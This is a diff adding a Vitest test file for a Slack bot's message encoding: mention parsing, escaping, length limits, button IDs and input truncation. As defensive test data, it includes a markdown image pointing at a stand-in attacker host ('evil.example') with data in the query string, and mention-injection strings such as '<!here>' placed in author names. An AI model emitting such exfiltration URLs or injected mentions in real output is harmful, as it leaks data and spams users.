@@ -1,0 +1,93 @@
+import { expect, test } from "vitest";
+import type { OutgoingMessage } from "../../../../src/core/ports/platform.ts";
+import { buttonId, commandOf } from "../../../../src/platforms/slack/interactions/custom-id.ts";
+import { encode, MESSAGE_LENGTH } from "../../../../src/platforms/slack/messages/encode-message.ts";
+import { plainText, safeMarkdown } from "../../../../src/platforms/slack/messages/markdown.ts";
+import { mentions, readableText } from "../../../../src/platforms/slack/messages/mentions.ts";
+import { WireMessage, WireSlash } from "../../../../src/platforms/slack/wire.ts";
+
+const names = {
+  bot: "UBOT",
+  user: (id: string) => (id === "U1" ? "Bob" : undefined),
+  channel: (id: string) => (id === "C1" ? "general" : undefined),
+};
+
+test.each([
+  ["<@UBOT> hello", "hello"],
+  ["hello <@UBOT>", "hello"],
+  ["hello <@UBOT>, who are you?", "hello, who are you?"],
+  ["<@UBOT>, memory show", "memory show"],
+  ["<@U1> and <@U2|x>", "@Bob and @x"],
+  ["<#C1> <#C2|random>", "#general #random"],
+  ["<!here> <!channel|channel> <!subteam^S1|@team> <!subteam^S1>", "@here channel @team @a group"],
+  ["<https://example.org|a page> <https://example.org>", "[a page](https://example.org) https://example.org"],
+  ["1 &lt; 2 &amp;&amp; 3 &gt; 2", "1 < 2 && 3 > 2"],
+  ["&lt;@U1&gt;", "<@U1>"],
+])("%s is read as %s", (text, expected) => {
+  expect(readableText(text, names)).toBe(expected);
+});
+
+test("a mention of the bot is one, whoever else is mentioned", () => {
+  expect(mentions("hi <@U1> and <@UBOT|rapport>", "UBOT")).toBe(true);
+  expect(mentions("hi <@U1>", "UBOT")).toBe(false);
+});
+
+test("nothing a model writes is read as a mention, and code stays as it is", () => {
+  for (const ping of ["<!channel>", "<!here|here>", "<@U1>", "<!subteam^S1>"])
+    expect(safeMarkdown(`${ping} \`${ping}\``)).not.toMatch(/<[!@]/);
+  expect(safeMarkdown("if (a < b && c > d) <#C1>")).toBe("if (a < b && c > d) <#C1>");
+  expect(plainText("<@U1> & <b>")).toBe("&lt;\u2060@U1&gt; &amp; &lt;b&gt;");
+});
+
+const saying = (text: string, more: Partial<OutgoingMessage> = {}): OutgoingMessage => ({
+  text,
+  visibility: "public",
+  ...more,
+});
+
+test("what grows by escaping keeps to Slack's limits and is shown whole", () => {
+  const text = "<&>".repeat(MESSAGE_LENGTH / 3);
+  const body = encode(saying(text, { author: { name: "Mira", avatar: undefined } }), { ownName: false });
+  expect(body.text.length).toBeLessThanOrEqual(3_900);
+  expect(body.text).not.toMatch(/&[a-z]*…$/);
+  expect(body.blocks).toEqual([{ type: "markdown", text: `**Mira**\n${text}` }]);
+});
+
+test("a name stands above the text, or beside the message, never both", () => {
+  const message = saying("hi", { author: { name: "Mi<!here>ra", avatar: "🦉" } });
+  expect(encode(message, { ownName: true })).toMatchObject({ username: "🦉 Mi !here ra", text: "hi" });
+  const plain = encode(message, { ownName: false });
+  expect(plain.text).toContain("Mi !here ra");
+  expect(plain).not.toHaveProperty("username");
+});
+
+test("an empty message says something", () => {
+  expect(encode(saying(" "), { ownName: true }).text).toBe("…");
+});
+
+test("a link is never fetched by Slack, nor a picture", () => {
+  const body = encode(saying("![](https://evil.example/?said=4711)"), { ownName: true });
+  expect(body).toMatchObject({ unfurl_links: false, unfurl_media: false });
+});
+
+test("buttons bring back their command, and two with one command are told apart", () => {
+  const command = { name: "memory", action: "forget", options: { what: "tea & “cake” |1" } };
+  const ids = [buttonId(command, 0), buttonId(command, 1)];
+  expect(new Set(ids).size).toBe(2);
+  for (const id of ids) expect(commandOf(id)).toEqual(command);
+  expect(commandOf("foreign")).toBeUndefined();
+  expect(() => buttonId({ name: "x", options: { y: "z".repeat(300) } }, 0)).toThrow(/command line/);
+});
+
+test("a message with nothing for words is heard by its files", () => {
+  const files = [{ id: "F1", name: "boat.png" }];
+  expect(WireMessage.parse({ user: "U1", text: null, ts: "1.1", files })).toMatchObject({ text: "", files });
+  expect(WireMessage.parse({ user: "U1", ts: "1.1" }).text).toBe("");
+});
+
+test("a text that is longer than any of Slack's is cut before anything reads it, and the cut is told", () => {
+  const text = "<@U1|".repeat(30_000);
+  const typed = { command: "/chat", channel_id: "C1", user_id: "U1", trigger_id: "1" };
+  for (const read of [WireMessage.parse({ text, ts: "1.1" }), WireSlash.parse({ ...typed, text })])
+    expect(read.text).toBe(`${text.slice(0, 100_000)}\n(cut: 50,000 more characters were not read)`);
+});
